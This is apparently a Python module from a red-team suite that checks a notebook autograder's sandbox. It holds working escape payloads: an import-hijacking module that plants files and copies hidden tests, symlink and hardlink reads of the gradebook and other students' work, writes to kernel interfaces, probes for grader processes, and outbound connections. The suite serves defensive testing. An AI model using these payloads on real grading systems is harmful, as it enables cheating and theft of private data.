"""Escapes: code that runs outside the sandbox, or reaches what the sandbox should keep out of reach.

Every attack here hands in the correct solution, so the most it may score is full marks; what it must
not achieve is a change to any file outside its private copy, a read of hidden tests, the gradebook or
another student's work that reaches its feedback, a write to a kernel interface, a signal to the
grader or a connection out.
"""

from __future__ import annotations

import os
from pathlib import Path

from . import Attack, Context
from .snippets import PRINT_INTERESTING, WRITE_OUTSIDE

#: A module that does its work when imported, then makes itself the real module of that name.
_CHAMELEON = """
import importlib as _importlib
import os as _os
import sys as _sys

for _path in ("@COURSE@/@TAG@.txt", "@REPO@/@TAG@.txt", "@SITE@/@TAG@.pth"):
    try:
        with open(_path, "w") as _handle:
            _handle.write("/nonexistent-@TAG@\\n")
    except OSError:
        pass
try:
    with open("@COURSE@/source/masks/masks.ipynb", "rb") as _src, open("leaked-source.txt", "wb") as _dst:
        _dst.write(_src.read())
except OSError:
    pass
_here = _os.path.dirname(_os.path.abspath(__file__))
_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _here]
_name = __name__
del _sys.modules[_name]
try:
    _sys.modules[_name] = _importlib.import_module(_name)
except ImportError:
    pass
"""

#: Kernel code: show whatever a launcher-time payload left next to the notebook.
_SHOW_LEAKED = (
    PRINT_INTERESTING
    + """
import glob as _glob

for _found in _glob.glob("leaked-*"):
    _show(_found)
"""
)


def _module_files(*names: str):  # noqa: ANN202 - a Files
    def files(folder: Path, context: Context) -> None:
        attack = folder.parent.name
        for name in names:
            (folder / name).write_text(context.fill(_CHAMELEON, attack))

    return files


def _symlinks(folder: Path, context: Context) -> None:
    course = context.course
    (folder / "link-source.ipynb").symlink_to(course / "source" / "masks" / "masks.ipynb")
    (folder / "link-gradebook.db").symlink_to(course / "gradebook.db")
    (folder / "link-other").symlink_to(course / "submitted" / "control_solution" / "masks")
    (folder / "link-checks.py").symlink_to(context.repo / "autograder" / "checks" / "masks.py")


def _hardlinks(folder: Path, context: Context) -> None:
    course = context.course
    os.link(course / "source" / "masks" / "masks.ipynb", folder / "hard-source.ipynb")
    os.link(course / "gradebook.db", folder / "hard-gradebook.db")
    # No hard link to another student's notebook: a student cannot make one (submissions arrive as
    # copies through nbgrader's exchange), and the victim's own file would then have two names too.


_SHOW_LINKS = (
    PRINT_INTERESTING
    + WRITE_OUTSIDE
    + """
import glob as _glob

for _found in sorted(_glob.glob("link-*") + _glob.glob("hard-*")):
    _show(_found)
_try_write("link-other/@TAG@.txt")
"""
)

ATTACKS = [
    Attack(
        "argparse_in_folder",
        "escape",
        "`argparse.py` in the submission folder, imported by the kernel launcher (run in that folder): "
        "writes into the course, the repository and the venv, copies the hidden tests for the kernel",
        base="solution",
        files=_module_files("argparse.py"),
        before={"dropout_mask": _SHOW_LEAKED},
    ),
    Attack(
        "startup_modules_in_folder",
        "escape",
        "`site.py`, `sitecustomize.py` and `usercustomize.py` in the submission folder, with the same "
        "payload",
        base="solution",
        files=_module_files("site.py", "sitecustomize.py", "usercustomize.py"),
        before={"dropout_mask": _SHOW_LEAKED},
    ),
    Attack(
        "venv_pth",
        "escape",
        "the kernel writes a .pth file into the virtual environment's site-packages",
        base="solution",
        before={"dropout_mask": WRITE_OUTSIDE + '\n_try_write("@SITE@/@TAG@.pth")\n'},
    ),
    Attack(
        "reads_private",
        "escape",
        "the kernel reads the course's hidden tests, the gradebook, another student's submission and "
        "autograded notebook, and prints what it finds",
        base="solution",
        before={
            "dropout_mask": PRINT_INTERESTING
            + """
for _path in ("@COURSE@/source", "@COURSE@/gradebook.db", "@COURSE@/submitted/control_solution",
              "@COURSE@/autograded/control_solution", "@COURSE@/release"):
    _show(_path)
"""
        },
    ),
    Attack(
        "reads_repo_solutions",
        "escape",
        "the kernel finds the repository through `autograder.__file__` and prints its solutions/ notebook",
        base="solution",
        before={
            "dropout_mask": PRINT_INTERESTING
            + """
import autograder as _package

_show(_os.path.join(_os.path.dirname(_os.path.dirname(_package.__file__)), "solutions", "masks"))
"""
        },
    ),
    Attack(
        "symlinks",
        "escape",
        "symbolic links in the submission folder to the hidden tests, the gradebook, another student's "
        "folder and the checks; the kernel prints them and writes through the folder link",
        base="solution",
        files=_symlinks,
        before={"dropout_mask": _SHOW_LINKS},
    ),
    Attack(
        "hardlinks",
        "escape",
        "hard links in the submission folder to the hidden tests and the gradebook; the kernel prints them",
        base="solution",
        files=_hardlinks,
        before={"dropout_mask": _SHOW_LINKS},
    ),
    Attack(
        "writes_outside",
        "escape",
        "the kernel writes into the course root, another submission, the autograded and feedback "
        "folders, the repository, the checks package and the host's /var/tmp, and opens the gradebook "
        "for writing",
        base="solution",
        before={
            "dropout_mask": WRITE_OUTSIDE
            + """
for _target in ("@COURSE@/@TAG@.txt", "@COURSE@/submitted/control_solution/masks/@TAG@.txt",
                "@COURSE@/autograded/@TAG@.txt", "@COURSE@/feedback/@TAG@.html", "@REPO@/@TAG@.txt",
                "@REPO@/autograder/checks/@TAG@.py", "/var/tmp/@TAG@.txt"):
    _try_write(_target)
try:
    with open("@COURSE@/gradebook.db", "r+b") as _gradebook:  # the sandbox may cover it with /dev/null
        if _gradebook.read(16) == b"SQLite format 3\\0":
            print("ESCAPED: opened the gradebook for writing")
except OSError as _error:
    print("blocked", type(_error).__name__)
"""
        },
    ),
    Attack(
        "kernel_interfaces",
        "escape",
        "writes /proc/sys/vm/swappiness (its own value back), opens /sys files for writing, makes a "
        "cgroup, checks whether /proc/sys and /sys are mounted writable",
        base="solution",
        before={
            "dropout_mask": """
import os as _os

try:
    _value = open("/proc/sys/vm/swappiness").read()
    with open("/proc/sys/vm/swappiness", "w") as _handle:
        _handle.write(_value)
    print("ESCAPED: wrote /proc/sys/vm/swappiness")
except OSError as _error:
    print("blocked", type(_error).__name__)
for _path in ("/sys/kernel/mm/transparent_hugepage/enabled", "/sys/kernel/mm/ksm/run"):
    try:
        _os.close(_os.open(_path, _os.O_WRONLY))
        print("ESCAPED: opened", _path, "for writing")
    except OSError as _error:
        print("blocked", type(_error).__name__)
for _controller in ("pids", "memory", "unified", ""):
    _group = _os.path.join("/sys/fs/cgroup", _controller, "@TAG@")
    try:
        _os.mkdir(_group)
        _os.rmdir(_group)
        print("ESCAPED: made the cgroup", _group)
    except OSError as _error:
        print("blocked", type(_error).__name__)
for _mount in ("/proc/sys", "/sys"):
    try:
        if not _os.statvfs(_mount).f_flag & 1:
            print("ESCAPED:", _mount, "is mounted writable")
    except OSError as _error:
        print("blocked", type(_error).__name__)
"""
        },
    ),
    Attack(
        "signal_grader",
        "escape",
        "looks for the grader's processes (nbgrader, pytest, jupyter) and checks it may signal them "
        "(signal 0: nothing is killed)",
        base="solution",
        before={
            "dropout_mask": """
import os as _os

for _pid in [int(p) for p in _os.listdir("/proc") if p.isdigit()]:
    if _pid == _os.getpid():
        continue
    try:
        _command = open(f"/proc/{_pid}/cmdline", "rb").read().replace(b"\\0", b" ").decode(errors="replace")
    except OSError:
        continue
    if any(word in _command for word in ("nbgrader", "pytest", "jupyter")):
        try:
            _os.kill(_pid, 0)
            print("ESCAPED: may signal", _pid, _command[:100])
        except OSError as _error:
            print("blocked", type(_error).__name__)
"""
        },
    ),
    Attack(
        "network",
        "escape",
        "connects to a listener the suite runs on the host (loopback and the host's address) and to a "
        "public address",
        base="solution",
        before={
            "dropout_mask": """
import socket as _socket

_hosts = ["127.0.0.1"]
try:
    _hosts.append(_socket.gethostbyname(_socket.gethostname()))
except OSError:
    pass
for _host, _port in [(h, @PORT@) for h in _hosts] + [("pypi.org", 443), ("1.1.1.1", 53)]:
    try:
        with _socket.create_connection((_host, _port), timeout=3) as _connection:
            _connection.sendall(b"redteam @ATTACK@\\n")
        print("ESCAPED: connected to", _host, _port)
    except OSError as _error:
        print("blocked", type(_error).__name__)
"""
        },
    ),
]
